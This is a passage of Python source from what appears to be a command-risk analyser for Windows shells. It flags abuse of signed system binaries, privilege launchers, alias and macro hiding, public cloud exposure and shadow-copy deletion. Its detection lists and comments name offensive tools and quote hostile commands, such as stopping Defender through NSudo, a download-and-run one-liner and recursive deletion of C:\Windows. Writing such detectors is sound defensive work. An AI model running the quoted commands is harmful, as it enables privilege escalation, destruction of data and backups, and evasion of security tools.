                # lands on a system file or a persistence door
                cmd.add(hit[0], hit[1], f"{cmd.name} copies a network file over {hit[2]}", dest)
                return
            if dest is not None and not dest.dynamic:
                path = dest.text.strip('"').replace("\\", "/")
                low = [w.text.lower() for w in cmd.args]
                if (
                    path.endswith("/")
                    or "." not in path.rsplit("/", 1)[-1]
                    or any(t.startswith(("-f:", "/f:")) or t in ("/e", "/l") for t in low)
                ):
                    # a folder (`expand x.cab -F:* %TEMP%`, `extrac32 /E /L DIR`): every
                    # file put there is unseen
                    path = path.rstrip("/") + "/"
                remember_unseen(cmd.scope, path, "was just downloaded")
            cmd.info.network_fetch = cmd.name == "findstr"  # (what it prints is the file)
            cmd.add(M, "download", f"{cmd.name} copies a file from the network", dest)
            return
        cmd.add(
            C,
            "lolbin-download",
            f"{cmd.name} fetches a file from the network with a Windows system binary",
        )
        return
    if cmd.name in ("msdt", "xwizard", "presentationhost", "ieexec") or (
        cmd.name == "hh" and cmd.args
    ):
        cmd.add(C, "lolbin-exec", f"{cmd.name} runs code through a signed Windows binary")
        return
    if cmd.name == "findstr":
        return
    cmd.add(M, "write", f"{cmd.name} writes files")


# Launchers that run a command line as SYSTEM or TrustedInstaller (NSudo, AdvancedRun,
# PowerRun, ExecTI) or on another machine (PsExec, PAExec): privilege escalation, and the
# command they launch is judged as well (`NSudo -U:T sc stop WinDefend` stops Defender).
_ELEVATORS = frozenset(
    names(
        """
        nsudo nsudolg nsudoc advancedrun powerrun powerrun_x64 execti runasti psexec psexec64
        paexec paexec64 runassystem superuser superuser64 minisudo
        """
    )
)
# Options of those launchers that take a value (PsExec `-u user -p pw`, AdvancedRun
# `/RunAs 8`).
_ELEVATOR_VALUED = frozenset(
    names(
        """
        -u -p -w -c -n -h -r -g -a -priority -user -password /runas /windowstate /startdirectory
        /priority /runasprocessname /parsevarcommandline /commandline /exefilename
        """
    )
)


def _elevator(cmd: Cmd) -> None:
    args = list(cmd.args)
    low = [w.text.lower() for w in args]
    line = ""
    if cmd.name == "advancedrun" or "/exefilename" in low:
        exe = _flag_value(cmd, "/exefilename") or ""
        line = f"{_quote_exe(exe)} {_flag_value(cmd, '/commandline') or ''}".strip()
    else:
        i = 0
        while i < len(args):
            t = low[i]
            if t.startswith("\\\\") or t in ("-accepteula", "/accepteula"):
                i += 1
            elif t.startswith(("-", "/")) and len(t) > 1 and not re.match(r"\A/[a-z]\Z", t):
                i += 2 if t in _ELEVATOR_VALUED else 1
            else:
                break
        rest = args[i:]
        if rest:
            cmd.judge(rest, cmd.stdin)
        if (
            cmd.name.startswith(("psexec", "paexec"))
            and any(t.startswith("\\\\") for t in low[:i])
            and not any(t in ("-s", "/s", "-h", "/h", "-e") for t in low[:i])
            and rest
        ):
            # (n13w) `psexec \\srv ipconfig /all`: a command run on another machine as
            # the caller (no SYSTEM or elevated token): remote execution, like ssh host CMD
            # (moderate; the command is judged above)
            cmd.add(M, "remote", f"{cmd.name} runs {rest[0].text} on another machine")
            return
    cmd.add(C, "sudo", f"{cmd.name} runs a program as SYSTEM, TrustedInstaller or another user")
    if line:
        _judge_payload(cmd, line, f"{cmd.name}")


# (n18w) NirSoft NirCmd (nircmd, nircmdc): `elevate PROGRAM …` and `runassystem PROGRAM …`
# run a program elevated or as SYSTEM, `elevatecmd VERB …` runs another NirCmd verb elevated,
# `exec SHOWMODE PROGRAM …` / `exec2 SHOWMODE FOLDER PROGRAM …` run one as it is.
_NIRCMD_RUN = {"elevate": 1, "runassystem": 1, "exec": 2, "exec2": 3}


def _nircmd(cmd: Cmd) -> None:
    args = list(cmd.args)
    elevated, i = False, 0
    while i < len(args) and args[i].text.lower() == "elevatecmd":
        elevated, i = True, i + 1
    verb = args[i].text.lower() if i < len(args) else ""
    skip = _NIRCMD_RUN.get(verb)
    elevated = elevated or verb in ("elevate", "runassystem")
    if elevated:
        cmd.add(C, "sudo", f"{cmd.name} {verb or 'elevatecmd'} runs a program as administrator")
    if skip is not None and args[i + skip :]:
        cmd.judge(args[i + skip :], cmd.stdin)
    elif not elevated:
        cmd.add(M, "system-config", f"{cmd.name} changes system settings")


# (w22) Windows' own Control Panel applets (System32\*.cpl), opened by their bare names
_SYSTEM_APPLETS = frozenset(
    names(
        """
        access appwiz bthprops desk firewall hdwwiz inetcpl intl irprops joy main mmsys ncpa
        powercfg sapi sysdm tabletpc telephon timedate wscui collab infocardcpl
        """
    )
)
_CONTROL_RUNDLL = re.compile(r"(?i)shell32(?:\.dll)?,control_rundll(?:asuser)?\Z")


def _system_applet(text: str) -> bool:
    """(w22) `desk.cpl` (`desk.cpl,,1`, `"ncpa.cpl"`): one of Windows' own applets, by name
    only (a path, a share or another name may be anyone's DLL)."""
    name = text.strip("\"'").split(",", 1)[0].lower()
    return name.endswith(".cpl") and name[:-4] in _SYSTEM_APPLETS


def _elevate_exe(cmd: Cmd) -> None:
    """elevate.exe `[-c | -k] [-n] [-u] [-w] PROGRAM …` runs PROGRAM (through cmd with -c/-k)
    elevated: privilege (critical), and PROGRAM judged."""
    args = list(cmd.args)
    i = 0
    while i < len(args) and re.fullmatch(r"[-/][cknuw]", args[i].text.lower()):
        i += 1
    cmd.add(C, "sudo", f"{cmd.name} runs a program as administrator")
    if args[i:]:
        cmd.judge(args[i:], cmd.stdin)


def _cpau(cmd: Cmd) -> None:
    """(n18w) CPAU (a runas replacement): `-u USER -p PASS -ex "COMMAND LINE"` runs the line as
    that user: privilege (critical), and the line judged as cmd would run it."""
    cmd.add(C, "sudo", f"{cmd.name} runs a program as another user")
    line = _flag_value(cmd, "-ex")
    at = next((w for i, w in enumerate(cmd.args[1:]) if cmd.args[i].text.lower() == "-ex"), None)
    if line and at is not None:
        cmd.scope.include(cmd.scope.nested(line, "cmd", at, -1))


def _quote_exe(exe: str) -> str:
    return f'"{exe}"' if " " in exe and not exe.startswith('"') else exe


def _proxy_exec_more(cmd: Cmd) -> None:
    """mavinject, atbroker, wuauclt /UpdateDeploymentProvider, control x.cpl, regedit /s:
    Windows binaries that load code or settings they are handed."""
    texts = [w.text.lower() for w in cmd.args]
    if cmd.name == "wuauclt" and not any("updatedeploymentprovider" in t for t in texts):
        cmd.add(M, "system-config", "wuauclt runs Windows Update")
    elif cmd.name == "control" and (
        not any(t.endswith((".cpl", ".dll")) for t in texts) or (texts and _system_applet(texts[0]))
    ):
        cmd.add(M, "system-config", "opens Control Panel")  # (w22: or one of its applets)
    elif cmd.name == "regedit" and not any(t in ("/s", "-s") for t in texts):
        cmd.add(M, "registry", "regedit opens or exports the registry")
    elif cmd.name == "regedit":
        files = [w for w in cmd.args if not w.text.startswith(("/", "-"))]
        if files:
            _registry_file(cmd, files[-1])
        else:
            cmd.add(C, "registry", "regedit /s silently imports registry changes")
    else:
        cmd.add(C, "lolbin-exec", f"{cmd.name} runs code through a signed Windows binary")


def _winrm(cmd: Cmd) -> None:
    src = cmd.scope.source[cmd.start : cmd.end]
    m = re.search(r"(?i)commandline\s*=\s*\"((?:[^\"]|\"\")+)\"", src)
    if m:
        line = m.group(1).replace('""', '"')
        if read_command_line(line):
            # (h19) a literal command line: judged below for what it runs
            cmd.add(M, "runs-program", "winrm starts a process through WMI (judged below)")
        else:
            cmd.add(C, "lolbin-exec", "winrm starts a process through WMI")
        cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
        return
    if any(w.text.lower() in ("invoke", "i") for w in cmd.args):
        cmd.add(C, "lolbin-exec", "winrm invokes a WMI method")
        return
    verb = cmd.args[0].text.lower().lstrip("-/") if cmd.args else ""
    if verb in ("get", "g", "enumerate", "e", "identify", "id", "help", "?"):
        return  # reads the configuration or a resource (safety-m8)
    if verb in ("quickconfig", "qc") or re.search(
        r"(?i)allowunencrypted\W+true|\bbasic\W+true|trustedhosts\W+\*", src
    ):
        # remote management switched on for this machine, or opened to anyone (m8)
        cmd.add(C, "remote-access", "winrm turns on or opens remote management (WinRM)")
        return
    cmd.add(M, "system-config", "winrm changes remote management")


def _ps_payload(cmd: Cmd) -> None:
    """Cmdlets that make Windows run a command line later or elsewhere: the scheduled task
    action, the service binary, the WMI process it creates. The command line is judged."""
    n = cmd.name
    params, positional = _ps_params(cmd)
    named = [_named_value(cmd, k, 2) for k in ("execute", "argument", "binarypathname", "name")]
    # (the positional arguments: not the values of named parameters `_VALUED` does not know)
    positional = [w for w in positional if all(w is not v for v in named)]

    def val(*keys: str, at: int = -1) -> str:
        for k in keys:
            w = _named_value(cmd, k, len(k)) or params.get(k)
            if w is None and 0 <= at < len(positional):
                # (a positional argument: `New-ScheduledTaskAction cmd.exe '/c …'`)
                w = positional[at]
            if w is not None:
                return fold_powershell(w.text) or w.text if w.dynamic else w.text
        return ""

    if n == "new-scheduledtaskaction":
        named_exe = named[0] is not None
        line = f"{val('execute', at=0)} {val('argument', at=0 if named_exe else 1)}".strip()
        cmd.add(M, "schedule", "defines what a scheduled task runs")
    elif n == "new-service":
        line = val("binarypathname", at=1 if named[3] is None else 0)
        cmd.add(C, "persistence", "New-Service installs a service that starts on its own")
    else:  # invoke-wmimethod / invoke-cimmethod
        text = cmd.scope.source[cmd.start : cmd.end]
        if re.search(r"(?i)stdregprov", text):
            hit = registry_risk(text)
            if hit is not None:
                cmd.add(*hit)
            else:
                cmd.add(M, "registry", f"{n} changes the registry through StdRegProv")
            return
        if not re.search(r"(?i)win32_process", text) or not re.search(r"(?i)\bcreate\b", text):
            cmd.add(M, "wmic", f"{n} calls a WMI method")
            return
        m = re.search(r"(?i)commandline\s*=\s*['\"]((?:[^'\"])+)['\"]", text)
        line = m.group(1) if m else val("argumentlist", "arguments", at=2)
        if read_command_line(line):
            # (h19) a command line read in full is judged for what it runs (`notepad.exe`:
            # a program started, moderate); one not read stays opaque execution
            cmd.add(M, "runs-program", f"{n} starts a process through WMI (judged below)")
        else:
            cmd.add(C, "lolbin-exec", f"{n} starts a process through WMI")
    if line:
        _judge_payload(cmd, line, "the command it runs")


_UNREAD_LINE = re.compile(r"[$%`]")


def read_command_line(line: str) -> bool:
    """(h19) Whether a command line handed to a process launcher (WMI's Win32_Process
    Create, winrm) is read in full: not empty and with no variable, environment reference
    or escape for the target to expand. Such a line is judged for what it runs; another
    stays opaque execution (critical)."""
    return bool(line.strip()) and _UNREAD_LINE.search(line) is None


PS_CODE_VIEW = "\x00pscode"  # the PowerShell text without comments and printed strings
PS_USER_ALIAS = "\x00psalias:"  # aliases a PowerShell script defines, in the scope's table


def program_path_lookup(raw: str) -> str | None:
    """`(Get-Command bcdedit).Source`, `(where.exe format)`: the program it names, or None."""
    m = _PROGRAM_PATH.match(raw.strip())
    if m is None:
        return None
    name = m.group(1) or m.group(2) or m.group(3)
    if "-" in name and not name.lower().endswith((".exe", ".com")):
        return None  # (a cmdlet: `_command_lookup` knows the ones it can name)
    return command_name(name, True)


_PROGRAM_PATH = re.compile(
    r"(?is)\A\(?\s*\(\s*(?:get-command|gcm)(?:\s+-(?:commandtype|type)\s+application)?\s+"
    r"(?:-name\s+)?['\"]?([\w.+-]+)['\"]?(?:\s+-(?:commandtype|type)\s+application)?\s*\)"
    r"(?:\s*\[\s*0\s*\])?\s*(?:\.\s*(?:source|path|definition))?\s*\)?\Z"
    r"|\A\(?\s*where(?:\.exe)?\s+['\"]?([\w.+-]+)['\"]?\s*\)?\Z"
    r"|\A\(?\s*(?:get-command|gcm)\s+(?:-name\s+)?['\"]?([\w.+-]+)['\"]?\s*\|\s*(?:select-object|select)"
    r"\s+-(?:expandproperty|expand|exp|ex)\s+(?:source|path|definition)\s*\)?\Z"
)


def _alias_item(cmd: Cmd) -> bool:
    """(n14w) `Set-Item -Path Alias:cfg -Value bcdedit.exe`, `New-Item Alias:\\x -Value
    Remove-Item`: the Alias: drive's spelling of Set-Alias."""
    path = _named_value(cmd, "path", 2) or next(
        (w for w in cmd.args if w.text.lower().startswith("alias:")), None
    )
    if path is None or not path.text.lower().startswith("alias:"):
        return False
    name = path.text[6:].lstrip("\\/")
    value = _named_value(cmd, "value", 2)
    if not name or value is None:
        cmd.add(M, "alias", "defines an alias")
        return True
    words = [
        Word("Set-Alias", cmd.start, cmd.end),
        Word("-Name", -1, -1),
        Word(name, path.start, path.end),
        Word("-Value", -1, -1),
        value,
    ]
    _ps_alias(Cmd(words, "set-alias", cmd.scope, cmd.stdin))
    return True


def _looked_up_program(cmd: Cmd, w: Word) -> str | None:
    """The native program a word names: `bcdedit.exe`, `C:\\Windows\\System32\\x.exe`,
    `(Get-Command bcdedit).Source`, `(where.exe x)` (n14w)."""
    if not w.dynamic:
        return command_name(w.text.strip("'\""), True)
    src = cmd.scope.source
    raw = src[w.start : w.end] if 0 <= w.start < w.end <= len(src) else ""
    if not raw or len(raw) > 200:
        return None
    return program_path_lookup(raw)


def _ps_alias(cmd: Cmd) -> None:
    """Set-Alias ls Remove-Item: a familiar name that now runs a destructive cmdlet."""
    params, positional = _ps_params(cmd)
    name = (
        _named_value(cmd, "name", 2)
        or params.get("name")
        or (positional[0] if positional else None)
    )
    value = (
        _named_value(cmd, "value", 2)
        or params.get("value")
        or (positional[1] if len(positional) > 1 else None)
    )
    if value is None:
        cmd.add(M, "alias", "defines an alias")
        return
    target = PS_ALIASES.get(value.text.lower(), value.text.lower())
    if target.endswith((".exe", ".com")) or value.dynamic:
        # (n14w) `Set-Alias cfg bcdedit.exe`, `Set-Alias cfg (Get-Command bcdedit).Source`:
        # the native program itself
        looked = _looked_up_program(cmd, value)
        if looked is not None:
            target, value = looked, Word(looked, value.start, value.end)
    if name is not None and not name.dynamic and not value.dynamic:
        # Later uses of the name run the target (the dispatcher looks it up).
        cmd.scope.env[PS_USER_ALIAS + name.text.lower()] = target
    hides_eval = target in ("iex", "invoke-expression") and (
        name is None
        or name.dynamic
        or name.text.lower() in PS_ALIASES
        or name.text.lower() in HANDLERS
    )
    if target in ("iex", "invoke-expression") and not hides_eval:
        # `Set-Alias run Invoke-Expression; run '…'`: a new name for it, not a familiar one
        # hidden; each use is judged as Invoke-Expression of what it is given (a literal as
        # its code, anything else as opaque)
        cmd.add(M, "alias", f"defines {name.text if name else 'an alias'} for Invoke-Expression")
        return
    if _PS_DESTRUCTIVE.match(target) or hides_eval or target in ("rm", "del", "rd", "format"):
        what = name.text if name is not None else "a name"
        cmd.add(C, "alias-hides", f"makes {what} run {value.text}", value)
    else:
        cmd.add(M, "alias", "defines an alias")


_PS_DESTRUCTIVE = re.compile(r"\A(remove|clear|stop|format|uninstall|disable|reset)-")

# (n14w) doskey macros a cmd block defines (`doskey n=format $*`): a later line that starts
# with the macro's name runs its text with `$*` / `$1`…`$9` replaced by the arguments and
# `$T` as a command separator. Kept in the scope's env by lower-case name.
DOSKEY_MACRO = "\x00doskey:"
_DOSKEY_DEF = re.compile(r"(?is)\A\s*@?doskey(?:\.exe)?\s+(?:/exename=\S+\s+)?([^\s=/]+)=(.*)\Z")


@handles("doskey", windows_only=True)
def _doskey(cmd: Cmd) -> None:
    src = cmd.scope.source
    raw = src[cmd.start : cmd.end] if 0 <= cmd.start < cmd.end <= len(src) else ""
    macro_file = re.search(r"(?i)/macrofile=(\"[^\"]+\"|\S+)", raw)
    if macro_file is not None:
        # `doskey /macrofile=m.txt` after the block wrote m.txt: each `name=text` line
        text = written_text(cmd.scope, macro_file.group(1).strip('"')) or ""
        for line in text.splitlines()[:64]:
            name, eq, body = line.strip().partition("=")
            if eq and name and " " not in name:
                cmd.scope.env[DOSKEY_MACRO + name.lower()] = body.strip()
        cmd.add(M, "alias", "loads doskey macros from a file")
        return
    m = _DOSKEY_DEF.match(raw) if "=" in raw else None
    if m is None:
        return  # `doskey /macros`, `doskey /history`: listings
    name, text = m.group(1).lower(), m.group(2).strip()
    cmd.scope.env[DOSKEY_MACRO + name] = text
    if not text:
        return
    # (n20w, F18) the body runs whenever the name is typed: judged now, as called with no
    # arguments (`$T` separates commands); a blocked body is blocked, a critical one
    # critical, and a macro named as a command people type (`ls`, `cd`, `git`) whose body
    # is destructive hides what it runs (critical; `doskey ls=dir $*` stays a convenience)
    where = Word(text, cmd.start, cmd.end)
    found: list[Finding] = []
    if len(text) <= 1000 and "doskey" not in text.lower():
        # (a long body, or one defining macros in turn, is not read again: as before)
        found = cmd.scope.nested(doskey_expanded(text, []), "cmd", where)
    runs = max((f.level for f in found), default=RiskLevel.SAFE)
    shadows = name.removesuffix(".exe") in HANDLERS or name in _CMD_BUILTINS
    if runs >= B:
        cmd.scope.include([f for f in found if f.level >= B])
        cmd.add(B, "alias-hides", f"the doskey macro {name} runs a blocked command")
    elif runs >= C or (shadows and runs >= D):
        cmd.add(C, "alias-hides", f"makes {name} run the doskey macro {text[:80]}")
    else:
        cmd.add(M, "alias", f"defines the doskey macro {name}")


# cmd's own commands (not programs on the PATH): a doskey macro of that name replaces them
CMD_BUILTINS = _CMD_BUILTINS = frozenset(
    names(
        """
        assoc call cd chdir cls color copy date del dir echo erase exit ftype md mkdir mklink
        move path popd prompt pushd rd ren rename rmdir set start time title type ver vol
        """
    )
)


@handles(
    "set-azstoragecontaineracl",
    "new-azstoragecontainer",
    "set-azstorageaccount",
    "set-s3acl",
    "set-s3bucketacl",
)
def _public_storage(cmd: Cmd) -> None:
    """(n14w) Data made public is exfiltration (critical, like a snapshot shared with
    everyone): an Azure container's public access set to Blob or Container
    (`Set-AzStorageContainerAcl -Permission Container`, `New-AzStorageContainer -Permission
    Blob`), anonymous blob access allowed on an account, an S3 ACL that grants everyone."""
    params, _ = _ps_params(cmd)
    if "whatif" in params:
        return
    access = _named_value(cmd, "permission", 3) or _named_value(cmd, "publicaccess", 3)
    low = " ".join(cmd.texts()).lower()
    public = (
        (access is not None and access.text.strip("'\"").lower() in ("blob", "container"))
        or re.search(r"-allowblobpublicaccess(?::\s*|\s+)\$?true\b", low) is not None
        or re.search(r"-publicread(?:only|write)\b|-cannedaclname\s+['\"]?public-read", low)
        is not None
    )
    if public:
        cmd.add(C, "exfiltration", f"{cmd.name} makes stored data readable by anyone")
    elif cmd.name.startswith("new-"):
        cmd.add(M, "write", f"{cmd.name} creates a storage container")
    else:
        cmd.add(M, "system-config", f"{cmd.name} changes a storage account or its access")


# (n18w) AWS Tools for PowerShell spellings of `aws ec2 modify-image-attribute` and friends:
# an image, snapshot or database snapshot shared with group `all` (every AWS account).
_AWS_SHARE_ALL = re.compile(
    r"-(?:usergroups?|groupnames?|valuestoadd|launchpermission_add|createvolumepermission_add"
    r"|loadpermission_add)\b(?::\s*|\s+)[^-]{0,80}?\ball\b"
    r"|-(?:launch|createvolume|load)permission\b(?::\s*|\s+)[^-]{0,120}?\badd\b[^-]{0,80}?\ball\b"
)


@handles(
    "edit-ec2imageattribute",
    "edit-ec2snapshotattribute",
    "edit-ec2fpgaimageattribute",
    "edit-rdsdbsnapshotattribute",
    "edit-rdsdbclustersnapshotattribute",
)
def _aws_share(cmd: Cmd) -> None:
    low = " ".join(cmd.texts()).lower()
    if _AWS_SHARE_ALL.search(low) and not re.search(r"-operationtype(?::\s*|\s+)['\"]?remove", low):
        at = next((w for w in cmd.args if w.text.strip("'\"").lower() == "all"), None)
        cmd.add(
            C,
            "public-exposure",
            f"{cmd.name} shares an image or snapshot with every AWS account",
            at,
        )
    else:
        cmd.add(M, "cloud", f"{cmd.name} changes who may use an image or snapshot")


# (n18w, session 18) hooks bound in this session that run a script block on a later event:
# a key press (PSReadLine), the engine going idle or exiting, an object's event, a timer.
# What runs there is the block: judged as it is, and critical (a hook) when the block runs a
# program or code the analyser cannot read (a local program, a variable, an unknown command).
_HOOK_PARAMS = {
    "set-psreadlinekeyhandler": ("scriptblock",),
    "register-engineevent": ("action",),
    "register-objectevent": ("action",),
    "register-wmievent": ("action",),
    "register-cimindicationevent": ("action",),
    "set-psreadlineoption": ("addtohistoryhandler", "commandvalidationhandler"),
    "set-psbreakpoint": ("action",),
    "sbp": ("action",),
}
_UNREADABLE = frozenset(
    {
        "local-script",
        "unknown-command",
        "eval-dynamic",
        "opaque-exec",
        "parse-error",
        "start-process",
    }
)


# (n19w) text a PSReadLine handler types onto the command line: Insert('…'), or
# Replace(start, length, '…')
_LINE_TEXT = re.compile(
    r"(?i)\[(?:microsoft\.powershell\.)?psconsolereadline\]::(?:insert\s*\(|replace\s*\("
    r"[^,()'\"]{0,40},[^,()'\"]{0,40},)\s*('(?:[^']|'')*'|\"[^\"`]*\")\s*\)"
)


def hook_body(body: str, where: Word, scope: Scope, what: str) -> None:
    """Judge a hook's script block `body` (`{ … }` or a variable): critical when it cannot be
    read; its own findings are judged where the block stands."""
    text = body.strip()
    if not (text.startswith("{") and text.endswith("}")):
        scope.add(
            C, "session-hook", f"{what} runs code the analyser cannot see", where.start, where.end
        )
        return
    found = scope.nested(text[1:-1], "powershell", where, -1)
    low = text.lower()
    if "psconsolereadline" in low and ("acceptline" in low or "acceptandgetnext" in low):
        # (n19w) `[PSConsoleReadLine]::Insert('…'); [PSConsoleReadLine]::AcceptLine()`: the
        # text put on the command line is run as the user's own command when the key is hit
        for m in _LINE_TEXT.finditer(text[:8000]):
            raw = m.group(1)
            typed = raw[1:-1].replace("''", "'") if raw[0] == "'" else raw[1:-1]
            run = scope.nested(typed, "powershell", where, -1)
            scope.include(run)
            found = [*found, *run]
    if any(f.rule in _UNREADABLE for f in found):
        reason = f"{what} runs a program the analyser cannot read on a later event"
        scope.add(C, "session-hook", reason, where.start, where.end)


@handles(*_HOOK_PARAMS)
def _session_hook(cmd: Cmd) -> None:
    args = cmd.args
    names = _HOOK_PARAMS[cmd.name]
    for i, w in enumerate(args):
        t = w.text.lower()
        key = t[1:].partition(":")[0] if t.startswith("-") else ""
        if len(key) >= 2 and any(n.startswith(key) for n in names) and i + 1 < len(args):
            hook_body(args[i + 1].text, args[i + 1], cmd.scope, cmd.name)
            return
    if cmd.name == "set-psreadlineoption":
        cmd.add(M, "system-config", "changes PSReadLine's options for this session")
    elif cmd.name in ("set-psbreakpoint", "sbp"):
        cmd.add(M, "system-config", "sets a debugger breakpoint")
    elif cmd.name != "set-psreadlinekeyhandler":
        # `Register-EngineEvent PowerShell.OnIdle { … }`: the action given by position
        block = next((w for w in args[1:] if w.text.lstrip().startswith("{")), None)
        if block is not None:
            hook_body(block.text, block, cmd.scope, cmd.name)
        else:
            cmd.add(M, "system-config", f"{cmd.name} subscribes to an event")
    else:
        cmd.add(M, "system-config", "binds a key to a PSReadLine function")


def doskey_expanded(text: str, args: list[str]) -> str:
    """A macro's text with its parameters replaced by the arguments of the call."""

    def sub(m: re.Match[str]) -> str:
        c = m.group(1).lower()
        if c == "*":
            return " ".join(args)
        if c == "t":
            return " & "
        if c == "$":
            return "$"
        k = int(c) - 1
        return args[k] if 0 <= k < len(args) else ""

    return re.sub(r"\$([*tT$1-9])", sub, text)


def _option_script(cmd: Cmd) -> str | None:
    """`diskpart /s d.txt`, `diskshadow /s s.txt`: the script's text when this block wrote
    it (`echo clean > d.txt`), else what stdin holds when it is known."""
    for i, w in enumerate(cmd.args[:-1]):
        if w.text.lower() in ("/s", "-s"):
            return written_text(cmd.scope, cmd.args[i + 1].text)
    return cmd.stdin.text if cmd.stdin.kind == "static" else None


def _diskshadow(cmd: Cmd) -> None:
    script = _option_script(cmd)
    if script is not None and not re.search(r"(?i)\bdelete\s+shadows\b", script):
        cmd.add(M, "backup", "diskshadow runs a script that deletes no shadow copies")
        return
    if script is not None and re.search(r"(?i)\bdelete\s+shadows\b", script):
        cmd.add(B, "delete-backups", "the diskshadow script deletes Volume Shadow Copies")
    elif any(w.text.lower() in ("/s", "-s") for w in cmd.args):
        cmd.add(C, "backup", "runs a diskshadow script (unseen) that can delete shadow copies")
    else:
        cmd.add(M, "backup", "diskshadow manages shadow copies")


def _sdelete(cmd: Cmd) -> None:
    """Sysinternals SDelete: -z/-c wipe a drive's free space; otherwise it securely deletes
    the files named (with -s, whole trees)."""
    flags = {w.text.lower() for w in cmd.args if w.text.startswith(("-", "/"))}
    if flags & {"-z", "-c", "/z", "/c"}:
        cmd.add(B, "wipe", "sdelete overwrites a drive's free space (nothing can be recovered)")
        return
    from aintern_ls.safety.files import _delete_targets

    targets = [w for w in cmd.args if not w.text.startswith(("-", "/")) and not w.text.isdigit()]
    before = len(cmd.scope.findings)
    _delete_targets(cmd, targets, bool(flags & {"-s", "-r", "/s"}), "securely deletes")
    if len(cmd.scope.findings) == before:
        cmd.add(D, "shred", "sdelete deletes files so they cannot be recovered")


def _flag_value(cmd: Cmd, flag: str) -> str | None:
    """The value of a cmd-style `/p DIR` or `/pDIR` option."""
    for i, w in enumerate(cmd.args):
        low = w.text.lower()
        if low == flag and i + 1 < len(cmd.args):
            return cmd.args[i + 1].text
        if low.startswith(flag) and len(low) > len(flag) and low[len(flag)] in ":=":
            return w.text[len(flag) + 1 :]
    return None


_WIN_PATH_START = re.compile(r"(?i)\A(?:[a-z]:[\\/]|\\\\|\.\.?[\\/]|%\w+%[\\/])")
# What cmd.exe splits an unquoted argument at (or treats as an operator).
_CMD_SPLITS = re.compile(r"[\s;,&|<>]")


def _cmd_exe(cmd: Cmd) -> None:
    for i, w in enumerate(cmd.args):
        glued = _CMD_GLUED.match(cmd.scope.source, w.start) if w.start >= 0 else None
        if (
            glued is not None
            and w.text.lower()[:2] in ("/c", "/k", "/r")
            and len(w.text) > 2
            and _cmd_line(cmd, w.start + 2, cmd.args[-1].end, always=True)
        ):
            return  # `cmd /c"rd /s /q C:\Users"`: the switch glued to its quoted command line
        low = w.text.lower()
        if len(low) > 3 and low[:2] in ("/c", "/k", "/r") and low[2] in " \t":
            # `cmd "/c rd /s /q C:\Windows"`: the switch and its command line quoted
            # together are the same switch (safety-m9)
            line = " ".join([w.text[2:].strip()] + [x.text for x in cmd.args[i + 1 :]])
            where = Word(line, w.start, cmd.args[-1].end)
            cmd.scope.include(cmd.scope.nested(line, "cmd", where, -1))
            return
        if low in ("/c", "/k", "/r"):
            rest = cmd.args[i + 1 :]
            if rest and _cmd_line(cmd, rest[0].start, rest[-1].end):
                return
            if rest:
                # Words with spaces were quoted (`del /s "C:\\Program Files\\*"`): keep them one.
                # So were an argument's code and its separators (`powershell -c "$u=…;iex(irm
                # $u)"`, ClickFix): re-quoted, cmd would split them at `;` and lose the rest.
                src_of = cmd.scope.source
                many = len(rest) > 1
                keep = cmd.scope.family == "cmd"
                text = " ".join(_requoted(x, j, many, src_of, keep) for j, x in enumerate(rest))
                src = cmd.scope.source[rest[0].start : rest[-1].end]
                if (
                    cmd.scope.family == "powershell"
                    and rest[0].start >= 0
                    and not any(ch in src for ch in "\"'$`@{}();,\n")
                    # (n13w: words put back as other text, a container's mount mapped to the
                    # host path, are judged as given)
                    and all(src_of[x.start : x.end] == x.text for x in rest if x.start >= 0)
                ):
                    # PowerShell passes plain words to a native program as written: cmd
                    # gets `-u:corp\admin` whole, not the parameter and value PS reads.
                    text = src
                start = rest[0].start if src == text else -1
                where = Word(text, rest[0].start, rest[-1].end)
                cmd.scope.include(cmd.scope.nested(text, "cmd", where, start))
                return
            break  # `… | cmd /q /k`, `cmd /c < x.txt`: no command given, stdin is read
    if cmd.stdin.kind != "none":
        run_code_from_stdin(cmd, "cmd")
        return
    cmd.add(M, "shell", "starts cmd.exe")


_CMD_GLUED = re.compile(r'(?i)/[ckr]"')
_ESCAPED_OPERATOR = re.compile(r"[|&<>]{1,2}")


def _requoted(x: Word, j: int, many: bool, src: str, keep: bool = False) -> str:
    """Word `j` of the words after `cmd /c` as cmd's inner command line gets it (`many`:
    there is more than one word; `keep`: cmd is started from cmd, which passes a quoted
    word on with its quotes). (Tests cheapest first: most words are returned as they are
    after two substring tests.)"""
    s, e = x.start, x.end
    if 0 <= s < e <= len(src):
        raw = src[s:e]
        if '"' in raw and raw[0] not in "\"'" and "^" not in raw:
            # `@{CommandLine="cmd /c …"}`: quotes inside a word are passed on as written
            # (w22: not a word the outer shell single-quoted, `cmd /c 'rd /s /q "C:\"'`:
            # its text, quotes and all, is the command line)
            return raw
        if keep and j > 0 and len(raw) > 1 and raw[0] == raw[-1] == '"' and raw.count('"') == 2:
            # `cmd /c start "title" /b …`: the quotes reach the inner command line (start
            # takes its first quoted argument as the window title)
            return raw
    t = x.text
    if not many or '"' in t:
        return t
    if not ((" " in t and _WIN_PATH_START.match(t)) or (j > 0 and _CMD_SPLITS.search(t))):
        return t
    if src[max(s, 0) : max(e, 0)].startswith("^") and _ESCAPED_OPERATOR.fullmatch(t):
        return t  # `cmd /c echo rd … ^| cmd`: an escaped operator is one for the inner cmd
    return f'"{t}"'


def _cmd_line(cmd: Cmd, start: int, end: int, always: bool = False) -> bool:
    """cmd's own rule for the text after `/c`: when it starts with a quote and holds more
    than two (`cmd /c "rd /s /q "C:\\Program Files""`, `cmd /c ""rd" /s "C:\\x""`), the
    first and the last quote are removed and the rest is the command line, as written
    (`always`: whatever the count, for `/c"…"` glued to its switch). False when that rule
    does not apply (the caller re-joins the words)."""
    if start < 0 or end <= start:
        return False
    raw = cmd.scope.source[start:end]
    if not raw.startswith('"') or (raw.count('"') <= 2 and not always) or "\n" in raw:
        return False
    last = raw.rfind('"')
    text = raw[1:last] + raw[last + 1 :]
    if re.fullmatch(r'\s*"[^"]*"\s*', text):
        return False  # (one quoted line left: judged by its words, as before)
    cmd.scope.include(cmd.scope.nested(text, "cmd", Word(text, start, end), start + 1))
    return True


def _help(cmd: Cmd) -> bool:
    """(w22) The program is asked only for its help: a standalone, unquoted `/?` or `-?`
    that is no option's value (`argv.asks_help`); never a `/?` inside a value or a quoted
    string (`format C: /v:"/?"` formats)."""
    return asks_help(cmd.name, cmd.args, cmd.scope.source, cmd.scope.family)


def _win_flags(cmd: Cmd) -> set[str]:
    """`/S /Q` and glued `/s/q` alike."""
    return {
